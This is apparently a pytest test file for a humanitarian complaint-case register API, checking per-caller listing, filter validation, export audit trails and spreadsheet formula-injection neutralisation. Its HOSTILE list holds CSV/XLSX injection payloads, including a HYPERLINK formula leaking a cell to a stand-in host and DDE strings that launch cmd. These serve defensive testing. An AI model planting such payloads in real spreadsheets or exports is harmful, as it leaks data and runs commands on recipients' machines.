"""The case register over HTTP attacked (issue #21, ADR 25): ``GET /v1/cases`` and
``POST /v1/cases/export``.

- Every kind of caller lists, page by page, exactly the cases ``GET /v1/cases/{id}``
  answers them (200), none of those it answers 404.
- Bad filters are refused with problem+json naming the parameter.
- Every case in an export shows the export in its custody trail (the history's reads and
  ``cbcm audit case``'s steps), under the export's id, and nothing else got it.
- An export whose recording fails hands out nothing (no case id in the answer).
- An export never holds a case its reader may not see, even while the read model still
  shows a case just transferred away.
- Formula injection: cells starting with ``=``, ``+``, ``-``, ``@`` (or tab, CR) are
  neutralised in CSV and XLSX.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from domain.actors import Actor, Role
from domain.vocabulary import ComplaintCategory, SharedItem, TransferReason
from projections.register import RegisterProjection, RegisterRow
from services.api.register import (
    COLUMNS,
    Export,
    neutralise,
    to_csv,
    to_xlsx,
)
from services.api.replay import case_steps
from services.bootstrap import complaint_mechanism
from services.event_store.errors import EventStoreUnavailable
from services.identity.tokens import Principal
from services.settings import Settings
from tests.api_world import CALLERS, World, make_world, project_into
from tests.integration.test_api_access import (
    FOCAL_POINT,
    Clock,
    assessed,
    received,
    referred,
)

ALL = tuple(CALLERS)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    data_dir = tmp_path_factory.mktemp("register")
    mechanism = complaint_mechanism(
        Settings(data_dir=data_dir, event_store=f"sqlite:///{data_dir / 'events.sqlite3'}")
    )
    yield make_world(data_dir, mechanism)
    mechanism.close()


@pytest.fixture(scope="module")
def client(world: World) -> Iterator[TestClient]:
    with TestClient(world.api) as test_client:
        yield test_client


@pytest.fixture(scope="module")
def clock() -> Clock:
    return Clock()


def project(world: World) -> None:
    """Bring the register up to the store, as relay and projector would."""
    project_into(world, RegisterProjection())


def transferred(world: World, clock: Clock) -> UUID:
    case_id = assessed(world.mechanism, clock, ComplaintCategory.OTHER_SENSITIVE)
    world.mechanism.transfer_case(
        case_id,
        actor=FOCAL_POINT,
        to_agency="wfp",
        reason=TransferReason.IMPLICATED_AGENCY_CUSTODY,
        shared=(SharedItem.ALLEGATION_SUMMARY,),
        at=clock(),
    )
    return case_id


@pytest.fixture(scope="module")
def cases(world: World, clock: Clock) -> list[UUID]:
    """Cases of every kind: held by unhcr, assessed, referred to wfp's investigators,
    transferred to wfp, closed."""
    app = world.mechanism
    made = [received(app, clock) for _ in range(3)]
    made.append(assessed(app, clock, ComplaintCategory.SEA_ALLEGATION))
    made += [referred(app, clock) for _ in range(2)]
    made += [transferred(world, clock) for _ in range(2)]
    closing = assessed(app, clock, ComplaintCategory.NON_SENSITIVE_FEEDBACK)
    app.close_case(
        closing,
        actor=FOCAL_POINT,
        reason=_reason("REFERRED_TO_FEEDBACK_MECHANISM"),
        at=clock(),
    )
    made.append(closing)
    project(world)
    return made


def _reason(name: str) -> Any:
    from domain.vocabulary import ClosureReason  # noqa: PLC0415

    return ClosureReason[name]


def _listed(client: TestClient, world: World, caller: str, query: str = "") -> list[str]:
    ids: list[str] = []
    url: str | None = f"/v1/cases?limit=2{query}"
    while url is not None:
        answer = client.get(url, headers=world.headers(caller))
        assert answer.status_code == 200, answer.text
        body = answer.json()
        ids += [item["case_id"] for item in body["items"]]
        url = body["next"]
    return ids


@pytest.mark.parametrize("caller", ALL)
def test_each_caller_lists_exactly_the_cases_it_may_get(
    world: World, client: TestClient, cases: list[UUID], caller: str
) -> None:
    # given cases of every kind, and what GET /v1/cases/{id} answers this caller for each
    may_get = {
        str(c)
        for c in cases
        if client.get(f"/v1/cases/{c}", headers=world.headers(caller)).status_code == 200
    }
    # when the caller lists the register, page by page
    first = client.get("/v1/cases", headers=world.headers(caller))
    if first.status_code == 403:
        # then a role that lists nothing is told so, and may get no case either
        assert first.headers["content-type"] == "application/problem+json"
        assert not may_get, caller
        return
    listed = _listed(client, world, caller)
    # then the list holds exactly those cases, each once
    assert len(listed) == len(set(listed))
    assert set(listed) & {str(c) for c in cases} == may_get
    assert set(listed) <= {str(c) for c in cases}


def test_filters_narrow_the_list_within_what_the_caller_sees(
    world: World, client: TestClient, cases: list[UUID]
) -> None:
    referred_ids = set(
        _listed(client, world, "coordinator", "&status=referred_pending_investigation")
    )
    assert referred_ids == {str(c) for c in cases[4:6]}
    held_by_wfp = set(_listed(client, world, "coordinator", "&agency=wfp"))
    assert held_by_wfp == {str(c) for c in cases[6:8]}
    # another agency's filter gives a focal point nothing of that agency
    assert _listed(client, world, "focal_point_own", "&agency=wfp") == []
    closed = set(_listed(client, world, "focal_point_own", "&open=closed"))
    assert closed == {str(cases[8])}
    today = datetime.now(UTC).date()
    later = (today + timedelta(days=2)).isoformat()
    assert _listed(client, world, "coordinator", f"&received_from={later}") == []


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("status=bogus", "status"),
        ("category=rumour", "category"),
        ("received_from=2025-13-01", "received_from"),
        ("received_from=2025-05-02&received_to=2025-05-01", "received_to"),
        ("overdue=maybe", "overdue"),
        ("open=ajar", "open"),
        ("agency=UNHCR;drop", "agency"),
        ("cursor=not-a-cursor", "cursor"),
        ("cursor=WyIyMDI1IiwieCJd", "cursor"),
        ("limit=0", "limit"),
        ("limit=100000", "limit"),
        ("limit=%C2%B2", "limit"),  # a digit to str.isdigit, not to int(): was a 500
        ("agency=unhcr&agency=wfp", "agency"),
    ],
)
def test_a_bad_filter_is_refused_naming_it(
    world: World, client: TestClient, query: str, parameter: str
) -> None:
    answer = client.get(f"/v1/cases?{query}", headers=world.headers("coordinator"))
    assert answer.status_code == 422
    assert answer.headers["content-type"] == "application/problem+json"
    assert answer.json()["parameter"] == parameter
    export = client.post(f"/v1/cases/export?{query}", headers=world.headers("coordinator"))
    if parameter not in ("cursor", "limit"):  # an export takes every page at once
        assert export.status_code == 422
        assert export.json()["parameter"] == parameter


# ---------------------------------------------------------------------------------- exports


def _csv_ids(content: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert tuple(rows[0]) == COLUMNS
    return [r[0] for r in rows[1:]]


def _export_reads(world: World, case_id: UUID, export_id: str) -> list[Any]:
    return [r for r in world.mechanism.personal_data_reads(case_id) if export_id in r.purpose]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_case_in_an_export_shows_the_export_in_its_history(
    world: World, client: TestClient, cases: list[UUID], fmt: str
) -> None:
    # given the unhcr focal point's register
    seen = set(_listed(client, world, "focal_point_own"))
    # when they export it
    answer = client.post(f"/v1/cases/export?format={fmt}", headers=world.headers("focal_point_own"))
    assert answer.status_code == 200, answer.text
    assert answer.headers["cache-control"] == "no-store"
    export_id = answer.headers["x-cbcm-export"]
    if fmt == "csv":
        exported = _csv_ids(answer.content)
    else:
        book = load_workbook(io.BytesIO(answer.content))
        sheet = book["cases"]
        exported = [str(r[0]) for r in sheet.iter_rows(min_row=2, values_only=True)]
        assert dict(book["export"].iter_rows(max_col=2, values_only=True))["export"] == export_id
    # then the file holds what they list, and each case's trail names this export
    assert set(exported) == seen and exported
    for case_id in exported:
        reads = _export_reads(world, UUID(case_id), export_id)
        assert len(reads) == 1
        assert reads[0].actor == Actor("fp-unhcr", "unhcr", Role.FOCAL_POINT)
        history = client.get(
            f"/v1/cases/{case_id}/history", headers=world.headers("coordinator")
        ).json()
        assert any(export_id in r["purpose"] for r in history["personal_data_reads"])
        steps = case_steps(world.mechanism, UUID(case_id))
        assert any(export_id in s.summary for s in steps)
    # and no case outside the export got its record
    for case_id in set(map(str, cases)) - set(exported):
        assert not _export_reads(world, UUID(case_id), export_id)


@pytest.mark.parametrize("caller", ALL)
def test_an_export_never_holds_a_case_the_caller_may_not_get(
    world: World, client: TestClient, cases: list[UUID], caller: str
) -> None:
    answer = client.post("/v1/cases/export", headers=world.headers(caller))
    if answer.status_code == 403:
        assert answer.headers["content-type"] == "application/problem+json"
        return
    assert answer.status_code == 200
    for case_id in _csv_ids(answer.content):
        assert client.get(f"/v1/cases/{case_id}", headers=world.headers(caller)).status_code == 200


def test_a_case_transferred_away_before_the_register_knows_is_not_exported(
    world: World, client: TestClient, cases: list[UUID], clock: Clock
) -> None:
    # given a case the unhcr focal point lists
    case_id = received(world.mechanism, clock)
    project(world)
    assert str(case_id) in _listed(client, world, "focal_point_own")
    # when it is transferred to wfp and the register has not yet applied that
    world.mechanism.transfer_case(
        case_id,
        actor=FOCAL_POINT,
        to_agency="wfp",
        reason=TransferReason.IMPLICATED_AGENCY_CUSTODY,
        shared=(SharedItem.ALLEGATION_SUMMARY,),
        at=clock(),
    )
    answer = client.post("/v1/cases/export", headers=world.headers("focal_point_own"))
    # then the export leaves it out, and records nothing of it for unhcr
    assert answer.status_code == 200
    assert str(case_id) not in _csv_ids(answer.content)
    assert not _export_reads(world, case_id, answer.headers["x-cbcm-export"])
    project(world)


def test_an_export_whose_recording_fails_hands_out_nothing(
    world: World, client: TestClient, cases: list[UUID], monkeypatch: pytest.MonkeyPatch
) -> None:
    # given an event store that cannot record the export's trace
    def refuse(*args: Any, **kwargs: Any) -> None:
        raise EventStoreUnavailable("the event store is away")

    monkeypatch.setattr(world.mechanism, "record_export", refuse)
    before = {c: len(world.mechanism.personal_data_reads(c)) for c in cases}
    # when the coordinator exports the register
    for fmt in ("csv", "xlsx"):
        answer = client.post(f"/v1/cases/export?format={fmt}", headers=world.headers("coordinator"))
        # then no file is given: a problem, naming no case
        assert answer.status_code == 503
        assert answer.headers["content-type"] == "application/problem+json"
        assert "x-cbcm-export" not in answer.headers
        for case_id in cases:
            assert str(case_id) not in answer.text
    assert before == {c: len(world.mechanism.personal_data_reads(c)) for c in cases}


def test_a_partly_failing_trace_records_nothing_at_all(
    world: World, client: TestClient, cases: list[UUID], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The trace of an export is one transaction: a failure in the middle of saving it
    leaves no case with a record of an export that was never handed out."""
    app = world.mechanism
    before = {c: len(app.personal_data_reads(c)) for c in cases}
    real_save = type(app).save
    calls: list[int] = []

    def failing_save(self: Any, *objs: Any, **kwargs: Any) -> Any:
        if len(objs) > 1:
            calls.append(len(objs))
            raise EventStoreUnavailable("lost the connection mid-write")
        return real_save(self, *objs, **kwargs)

    monkeypatch.setattr(type(app), "save", failing_save)
    answer = client.post("/v1/cases/export", headers=world.headers("coordinator"))
    assert answer.status_code == 503
    assert calls, "the export's trace was not saved in one call"
    monkeypatch.undo()
    assert before == {c: len(app.personal_data_reads(c)) for c in cases}


# ---------------------------------------------------------------------------------- injection

HOSTILE = (
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _hostile_row(value: str) -> RegisterRow:
    moment = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    return RegisterRow(
        case_id=UUID(int=1),
        status=value,
        agency=value,
        receiving_agency=value,
        received_at=moment,
        recorded_at=moment,
        channel=value,
        complainant_role=value,
        immediate_safety_risk=False,
        category=value,
        allegation_type=value,
        child_involved=False,
        implicated_agency=value,
        personnel_category=value,
        investigation_agency=value,
        is_open=True,
        closed_at=None,
        closure_reason=value,
        duplicate_of=None,
        reopened_count=0,
        next_action=value,
        due_at=None,
        overdue=None,
        version=1,
    )


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_injection_is_neutralised_in_csv_and_xlsx(value: str) -> None:
    row = _hostile_row(value)
    # CSV: every text cell a spreadsheet would evaluate starts with a quote instead
    lines = list(csv.reader(io.StringIO(to_csv([row]).decode("utf-8-sig"))))
    for cell in lines[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert lines[1][COLUMNS.index("agency")] == f"'{value}"
    # XLSX: no formula cell at all, and the text kept (quoted)
    export = Export(UUID(int=2), (row,), datetime(2026, 1, 2, tzinfo=UTC), "xlsx")
    who = Principal("coord-1", "ocha", frozenset({Role.COORDINATOR}))
    book = load_workbook(io.BytesIO(to_xlsx(export, who, {"agency": [value]})))
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    kept = book["cases"].cell(row=2, column=COLUMNS.index("agency") + 1).value
    assert kept == f"'{value}".replace("\r", "\n")  # XML reads a CR as a line feed


def test_harmless_text_is_left_as_it_is() -> None:
    assert neutralise("unhcr") == "unhcr"
    assert neutralise("a=b") == "a=b"
